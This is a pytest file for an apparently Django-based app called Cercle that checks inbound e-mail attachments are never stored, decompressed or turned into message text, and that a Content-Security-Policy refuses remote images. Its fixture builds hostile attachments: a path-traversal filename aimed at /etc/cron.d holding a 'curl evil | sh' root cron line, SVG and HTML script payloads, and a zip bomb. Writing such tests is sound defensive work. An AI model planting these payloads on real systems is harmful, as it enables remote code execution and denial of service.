"""Attack 10, for what exists: Cercle stores no attachment. An e-mail's attachments (a name that
climbs out of a directory, an SVG with a script, a zip bomb, an HTML part marked as an attachment)
are never written anywhere, never opened or decompressed, and never become the message's text;
platform attachments arrive as links in plain text. Remote images are refused by the
Content-Security-Policy (`img-src 'self' data:`), and the sanitiser drops them from HTML mail."""

from __future__ import annotations

import io
import zipfile
from email.message import EmailMessage
from pathlib import Path

import pytest
from django.conf import settings
from django.test import Client

from cercle.connectors.email.inbound import parse_message
from cercle.core.security import CONTENT_SECURITY_POLICY


def _zip_bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros.bin", b"\0" * (20 * 1024 * 1024))
    return out.getvalue()


def _hostile_mail() -> bytes:
    msg = EmailMessage()
    msg["From"] = "Camille <camille@example.test>"
    msg["To"] = "support@lumen.test"
    msg["Subject"] = "Facture"
    msg["Message-ID"] = "<att-1@example.test>"
    msg.set_content("Voici la facture.")
    msg.add_attachment(
        b"* * * * * root curl evil | sh\n",
        maintype="text",
        subtype="plain",
        filename="../../../../etc/cron.d/evil",
    )
    msg.add_attachment(
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>',
        maintype="image",
        subtype="svg+xml",
        filename="logo.svg",
    )
    msg.add_attachment(_zip_bomb(), maintype="application", subtype="zip", filename="bomb.zip")
    msg.add_attachment(
        b"<script>alert('attached html')</script>",
        maintype="text",
        subtype="html",
        filename="..\\..\\invoice.html",
    )
    return msg.as_bytes()


def _files_under(root: Path) -> set[Path]:
    return {p for p in root.rglob("*")} if root.exists() else set()


def test_attachments_are_never_stored_opened_or_turned_into_text(monkeypatch, tmp_path):
    raw = _hostile_mail()

    def never(*args, **kwargs):
        raise AssertionError("an attachment was opened")

    monkeypatch.setattr(zipfile, "ZipFile", never)
    monkeypatch.chdir(tmp_path)
    data_dir = Path(settings.DATA_DIR)
    before = _files_under(data_dir)

    item = parse_message(raw, mailbox="INBOX", uidvalidity=1, uid=1)

    assert item.text == "Facture\n\nVoici la facture."
    for trace in ("cron", "curl", "svg", "alert", "bomb", "invoice"):
        assert trace not in item.text
    assert _files_under(data_dir) == before
    assert list(tmp_path.iterdir()) == []
    assert not Path("/etc/cron.d/evil").exists()


@pytest.mark.django_db
def test_remote_images_are_refused_by_the_content_security_policy(owner):
    client = Client()
    client.force_login(owner.user)
    response = client.get("/")
    policy = response["Content-Security-Policy"]
    assert policy == CONTENT_SECURITY_POLICY
    img_src = next(d for d in policy.split(";") if d.strip().startswith("img-src"))
    assert img_src.split()[1:] == ["'self'", "data:"]
